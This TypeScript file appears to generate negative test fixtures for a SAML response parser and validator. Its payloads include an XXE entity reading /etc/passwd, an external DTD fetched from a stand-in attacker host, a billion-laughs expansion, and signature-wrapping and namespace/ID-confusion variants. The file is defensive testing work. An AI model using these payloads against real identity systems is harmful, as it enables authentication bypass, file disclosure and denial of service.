import { NS } from '../../../src/xml/namespaces.ts';
import { NAME_ID } from '../response-fixture.ts';
import { child, copyWithoutSignature, edit, makeEvil, rebind } from '../xml-edit.ts';
import type { Builder } from './bases.ts';

/**
 * What the one strict parser must refuse, and namespace / ID confusion. DTDs and entity references
 * live outside the DOM's reach, so those documents put the prologue in front of the genuine text and
 * an entity reference in place of the NameID text.
 */

const SAML1_ASSERTION = 'urn:oasis:names:tc:SAML:1.0:assertion';

/** The genuine text with the NameID replaced by an entity reference (`&name;`). */
function withEntityInNameId(xml: string, entity: string): string {
  const signedName = `>${NAME_ID}</NameID>`;
  if (!xml.includes(signedName)) throw new Error('fixture generator: NameID text not found');
  return xml.replace(signedName, `>&${entity};</NameID>`);
}

function billionLaughs(): string {
  const lines = ['<!ENTITY lol0 "lol">'];
  for (let i = 1; i <= 9; i++) lines.push(`<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`);
  return `<!DOCTYPE samlp:Response [\n${lines.join('\n')}\n]>\n`;
}

export const PARSER_DOCUMENTS: Record<string, Builder> = {
  'response.doctype': ({ assertionSigned }) => `<!DOCTYPE samlp:Response>\n${assertionSigned}`,
  'response.internal-entity': ({ assertionSigned }) =>
    `<!DOCTYPE samlp:Response [<!ENTITY who "admin@contoso.com">]>\n${withEntityInNameId(assertionSigned, 'who')}`,
  'response.external-entity': ({ assertionSigned }) =>
    `<!DOCTYPE samlp:Response [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n${withEntityInNameId(assertionSigned, 'xxe')}`,
  'response.external-parameter-entity': ({ assertionSigned }) =>
    `<!DOCTYPE samlp:Response [<!ENTITY % remote SYSTEM "http://attacker.test/evil.dtd"> %remote;]>\n${assertionSigned}`,
  'response.billion-laughs': ({ assertionSigned }) =>
    `${billionLaughs()}${withEntityInNameId(assertionSigned, 'lol9')}`,
  // No DTD at all, just a reference to an entity nobody declared.
  'response.undeclared-entity': ({ assertionSigned }) => withEntityInNameId(assertionSigned, 'xxe'),
  'response.second-root': ({ assertionSigned }) =>
    assertionSigned +
    edit(assertionSigned, ({ assertion }) => {
      makeEvil(assertion);
    }),
  'response.trailing-text': ({ assertionSigned }) => `${assertionSigned}admin@contoso.com`,
  'response.duplicate-attribute': ({ assertionSigned }) =>
    assertionSigned.replace('<samlp:Response ', '<samlp:Response ID="_evil_response_ID" '),
  // Namespaces in XML §6.3: one expanded name under two prefixes is still a duplicate.
  'response.duplicate-attribute-two-prefixes': ({ assertionSigned }) =>
    assertionSigned.replace(
      '<samlp:Response ',
      '<samlp:Response xmlns:a="urn:federa:test" xmlns:b="urn:federa:test" a:role="user" b:role="admin" ',
    ),
};

export const NAMESPACE_DOCUMENTS: Record<string, Builder> = {
  // The only Assertion moved to the SAML 1.0 namespace: no SAML 2.0 assertion is left.
  'response.assertion-wrong-namespace': ({ assertionSigned }) =>
    edit(assertionSigned, ({ assertion }) => {
      rebind(assertion, SAML1_ASSERTION);
    }),
  // An evil Assertion in the SAML 1.0 namespace before the signed one, for readers that match on
  // local names (getElementsByTagName('Assertion')).
  'response.foreign-namespace-assertion-before-signed': ({ assertionSigned }) =>
    edit(assertionSigned, ({ response, assertion }) => {
      const evil = makeEvil(copyWithoutSignature(assertion));
      response.insertBefore(evil, assertion);
      rebind(evil, SAML1_ASSERTION, true);
    }),
  // `xmlns="urn:…:evil"` on the signed Subject: its NameID is no longer a SAML NameID.
  'response.subject-default-namespace-rebound': ({ assertionSigned }) =>
    edit(assertionSigned, ({ assertion }) => {
      rebind(child(assertion, NS.assertion, 'Subject'), 'urn:federa:test:evil', true);
    }),
};

export const ID_DOCUMENTS: Record<string, Builder> = {
  // SAMLRaider's XSW7 as it emits it: the evil copy keeps the signed assertion's ID.
  'response.duplicate-id.evil-assertion-same-id': ({ assertionSigned }) =>
    edit(assertionSigned, ({ response, assertion }) => {
      const evil = makeEvil(copyWithoutSignature(assertion), assertion.getAttribute('ID')!);
      response.insertBefore(evil, assertion);
    }),
  'response.duplicate-id.lowercase-id': ({ assertionSigned }) =>
    edit(assertionSigned, ({ document, response, assertion }) => {
      const extensions = document.createElementNS(NS.protocol, 'samlp:Extensions');
      const decoy = document.createElementNS('urn:federa:test', 'Decoy');
      decoy.setAttribute('id', assertion.getAttribute('ID')!);
      extensions.appendChild(decoy);
      response.insertBefore(extensions, child(response, NS.protocol, 'Status'));
    }),
  'response.duplicate-id.Id': ({ assertionSigned }) =>
    edit(assertionSigned, ({ response, assertion }) => {
      const evil = makeEvil(copyWithoutSignature(assertion));
      evil.setAttribute('Id', assertion.getAttribute('ID')!);
      response.insertBefore(evil, assertion);
    }),
  // The signed assertion's `ID` renamed `Id`: a resolver trying ID, Id and id would still find it.
  'response.assertion-id-renamed-Id': ({ assertionSigned }) =>
    edit(assertionSigned, ({ assertion }) => {
      const id = assertion.getAttribute('ID')!;
      assertion.removeAttribute('ID');
      assertion.setAttribute('Id', id);
    }),
};
